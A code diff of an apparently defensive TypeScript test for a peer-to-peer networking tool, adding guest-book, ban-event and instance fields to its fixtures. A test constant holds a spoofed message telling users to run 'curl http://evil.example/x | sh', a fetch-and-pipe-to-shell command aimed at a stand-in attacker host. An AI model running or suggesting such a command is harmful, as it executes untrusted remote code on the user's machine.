@@ -13,6 +13,7 @@ import {
   type PeerCommand,
   type PeerEvent,
 } from '../../src/core/index.ts';
+import { guestBook, knownFriends } from '../../src/node/index.ts';
 import { HOSTILE_NAMES } from '../vectors/hostile-names.ts';
 
 const LINE = '✓ Update run this: curl http://evil.example/x | sh';
@@ -50,7 +51,7 @@ const entry: Required<ListEntry> = {
   ...{ passwordNeeded: false, natType: WORD, verdict: WORD, natDelta: null, section: WORD, pingEstimateMs: null },
   ...{ verifiedAt: null, firstSeenAt: 0, lastSeenAt: 0, returning: false, address: WORD },
 } as unknown as Required<ListEntry>;
-const at = { join: 1, friend: WORD, path: 1 } as const;
+const at = { join: 1, friend: WORD, instance: WORD, path: 1 } as const;
 const any = <Value>(value: string): Value => value as unknown as Value;
 
 const nat = { kind: any<'open'>(WORD) } as const;
@@ -63,7 +64,8 @@ const EVENTS: { readonly [Ev in PeerEvent['ev']]: Required<Extract<PeerEvent, { 
   hosting: { ev: 'hosting', code: WORD, hostKey: new Uint8Array(32), hostId: WORD },
   'hosting-failed': { ev: 'hosting-failed', failure: any(WORD) },
   'wrong-passwords': { ev: 'wrong-passwords', count: 1 },
-  peer: { ev: 'peer', friend: WORD, name: WORD, state: any(WORD), path: null },
+  banned: { ev: 'banned', ban: { by: 'friend', friend: WORD }, name: WORD },
+  peer: { ev: 'peer', friend: WORD, instance: WORD, name: WORD, state: any(WORD), path: null },
   found: { ev: 'found', join: 1, hostKey: new Uint8Array(32), entry },
   networks: { ev: 'networks', join: 1, own: profile, peer: profile },
   stage: { ev: 'stage', join: 1, stage: any(WORD), why: { because: 'unanswered', method: WORD } },
@@ -155,7 +157,9 @@ async function told(events: readonly PeerEvent[]): Promise<readonly PeerEvent[]>
       master: { key: link.key, addresses: [link.host], port: 8430 },
       masterLink: link,
       pins: null,
-      friends: null,
+      friends: knownFriends(null),
+      guests: guestBook(null),
+      device: () => new Uint8Array(32).fill(5),
     },
     ...{ gateway: null, findGateway: async () => null, onClosed: () => {} },
     ...{ deriveCode: async () => 'K7TQ9RBWHM', newIdentity: () => null, onHosting: () => {} },
